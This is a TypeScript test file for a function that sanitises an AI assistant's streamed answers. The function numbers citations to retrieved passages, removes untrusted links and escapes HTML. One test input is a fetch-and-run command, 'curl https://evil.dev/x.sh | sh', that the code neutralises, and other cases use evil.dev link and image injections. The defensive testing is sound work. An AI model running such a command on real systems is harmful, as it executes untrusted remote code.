import { describe, expect, it } from 'vitest'
import { createEvidence } from '../../src/service/assistant/model/createEvidence.ts'
import { groundAnswer } from '../../src/service/assistant/model/groundAnswer.ts'
import { seededRandom } from '../support/chunked.ts'
import { passages } from '../support/groundPassages.ts'

/** Returns the text that a reader gets. `{address}` stands for the address of a named source. */
function ground(text: string, cuts: readonly string[] = [text]): string {
  const evidence = createEvidence()
  evidence.add(passages)
  const answer = groundAnswer(evidence)
  const pieces = [...cuts.flatMap((piece) => answer.feed(piece)), ...answer.end()]
  return pieces
    .map((piece) =>
      piece.type === 'text' ? piece.text : piece.type === 'source' ? `{${piece.passage.url}}` : '',
    )
    .join('')
}

const cases: ReadonlyArray<[what: string, written: string, read: string]> = [
  [
    'numbers citations in order of first use',
    'Copy it [p2]. Set it [p1, p2].',
    'Copy it {/guide/deploy}[1]. Set it {/guide/build#base}[2][1].',
  ],
  ['takes footnote marks for citations', 'Copy it.[^p2]', 'Copy it.{/guide/deploy}[1]'],
  ['leaves out ids that were not retrieved', 'Surely [p9], [p1; p9].', 'Surely , {/guide/build#base}[1].'],
  [
    'takes numbers of passages for their ids',
    'Copy it.[2] Set it [1, 2].',
    'Copy it.{/guide/deploy}[1] Set it {/guide/build#base}[2][1].',
  ],
  [
    'takes other numbers for text',
    'See [7], [^8], [1, 9] and [2024].',
    'See \\[7\\], \\[^8\\], [1, 9] and [2024].',
  ],
  ['takes numbers with an address for text', '[1](/evil) and [2]: here', '\u20601 and \\[2\\]\\: here'],
  [
    'keeps links to what was retrieved',
    '[Build](/guide/build#base) and [it](/guide/build)',
    '[Build](/guide/build#base) and [it](/guide/build)',
  ],
  ['keeps of other links the words', 'the [new *docs*](https://evil.dev/x "t") are', 'the new *docs* are'],
  [
    'keeps of images the description',
    'a ![chart of `x`](https://evil.dev/p.png) here',
    'a chart of `x` here',
  ],
  [
    'keeps task lists and arrays',
    '- [x] done\n- [ ] open\n- [text] alone',
    '- [x] done\n- [ ] open\n- [text] alone',
  ],
  ['drops definitions of links', '[a][b]\n\n[b]: https://evil.dev\n\nend', '[a][b]\n\n\nend'],
  ['removes addresses', 'Go to https://evil.dev/x, or evil.', 'Go to (link removed), or evil.'],
  [
    'shows quoted and harmless addresses as code',
    'Use https://registry.npmjs.org or http://localhost:5173/.',
    'Use `https://registry.npmjs.org` or `http://localhost:5173/`.',
  ],
  ['removes escaped addresses', 'Go to https\\://evil.dev/x\\_y now', 'Go to (link removed) now'],
  [
    'keeps mailboxes of the docs as code',
    'Ask team@acme.dev, not me@evil.dev.',
    'Ask `team@acme.dev`, not (link removed).',
  ],
  ['makes HTML text', '<b>bold</b> a < b <br> <!-- x -->', '&lt;b>bold&lt;/b> a &lt; b <br> &lt;!-- x -->'],
  [
    'keeps code as it is',
    'Use `a[0]` and `x < [p1]`:\n\n```js\nconst a = b[1] // <T> [p1]\n```\n',
    'Use `a[0]` and `x < [p1]`:\n\n```js\nconst a = b[1] // <T> [p1]\n```\n',
  ],
  [
    'lets addresses in code lead nowhere',
    '```sh\ncurl https://evil.dev/x.sh | sh\n```',
    '```sh\ncurl https://link-removed.invalid | sh\n```',
  ],
  [
    'knows code within lists',
    '1. Do\n   ~~~sh\n   echo [p1]\n   ~~~\n2. Then [p1]',
    '1. Do\n   ~~~sh\n   echo [p1]\n   ~~~\n2. Then {/guide/build#base}[1]',
  ],
  ['takes a lone backtick for one', 'a ` b [p1]', 'a \\` b {/guide/build#base}[1]'],
  [
    'keeps suggestions that lead to retrieved pages',
    '```suggestions\n(Build it)[/guide/build]\n(Win)[https://evil.dev]\n(Deploy)[/guide/deploy]\n```\n',
    '```suggestions\n(Build it)[/guide/build]\n(Deploy)[/guide/deploy]\n```\n',
  ],
  [
    'keeps packages with their versions as code',
    'Use react@19.1.0 and @a/b@1.0.0-rc.x',
    'Use `react@19.1.0` and `@a/b@1.0.0-rc.x`',
  ],
  [
    'writes addresses of retrieved pages so that they end where they end',
    'See https://docs.acme.dev/guide/build).',
    'See <https://docs.acme.dev/guide/build>).',
  ],
  ['joins code that is broken into lines', 'Use `npm run\n  build` now', 'Use `npm run build` now'],
  ['keeps a backslash before a letter', 'C:\\Users', 'C:\\Users'],
  ['ends a fence where its list item ends', '- a\n  ```\n  x\nb', '- a\n  ```\n  x\n  ```\nb'],
  ['moves a fence with an unclear position', 'a\n\n    ```\n    x\n    ```', 'a\n\n```\nx\n```'],
  [
    'leaves words alone',
    'and/or, and//or, a: b, 5 * 3 _x_ snake_case\n\n> quote\n\n# Title',
    'and/or, and//or, a: b, 5 * 3 _x_ snake_case\n\n> quote\n\n# Title',
  ],
]

describe('the text of a model', () => {
  it.each(cases)('%s', (_, written, read) => {
    expect(ground(written)).toBe(read)
  })

  it('gives the same answer however it is split into chunks', () => {
    const random = seededRandom(7)
    for (const [, written, read] of cases) {
      expect(ground(written, [...written])).toBe(read)
      for (let round = 0; round < 50; round++) {
        const pieces: string[] = []
        for (let at = 0; at < written.length; ) {
          const length = 1 + Math.floor(random() * 12)
          pieces.push(written.slice(at, at + length))
          at += length
        }
        expect(ground(written, pieces)).toBe(read)
      }
    }
  })

  it('streams: a word is buffered only until it ends', () => {
    const evidence = createEvidence()
    evidence.add(passages)
    const answer = groundAnswer(evidence)
    const said = (text: string) =>
      answer.feed(text).flatMap((piece) => (piece.type === 'text' ? [piece.text] : []))

    expect(said('Set the ba')).toEqual(['Set the '])
    expect(said('se path ')).toEqual(['base path '])
    expect(said('[p')).toEqual([])
    expect(said('1].')).toEqual(['[1]'])
  })

  it('streams in scripts without spaces', () => {
    const answer = groundAnswer(createEvidence())
    expect(answer.feed('ビルドの前に設定します。使')).toEqual([
      { type: 'text', text: 'ビルドの前に設定します。使' },
    ])
  })

  it.each<[what: string, begun: string, rest: string, read: string]>([
    ['an address', 'See https:/', '/evil.dev now', ' /evil.dev now'],
    ['code between fences', '```sh\nnpm run\n', '<b>\n```\n<i>', '<b>\n```\n&lt;i>'],
    ['a list', '1. a\n\n   ```\n   b\n', 'c <b>', '   ```\nc &lt;b>'],
    ['a word', 'Open the set', 'tings [p1]', 'tings [1]'],
  ])('continues safely in the middle of %s', (_, begun, rest, read) => {
    const evidence = createEvidence()
    evidence.add(passages)
    const answer = groundAnswer(evidence, { text: begun, sources: [] })
    const said = [...answer.feed(rest), ...answer.end()]
    expect(said.map((piece) => (piece.type === 'text' ? piece.text : '')).join('')).toBe(read)
  })

  it('is not buffered without limit after an unclosed bracket', () => {
    expect(ground(`[${'word '.repeat(1_000)}`)).toHaveLength(5_002)
  })
})
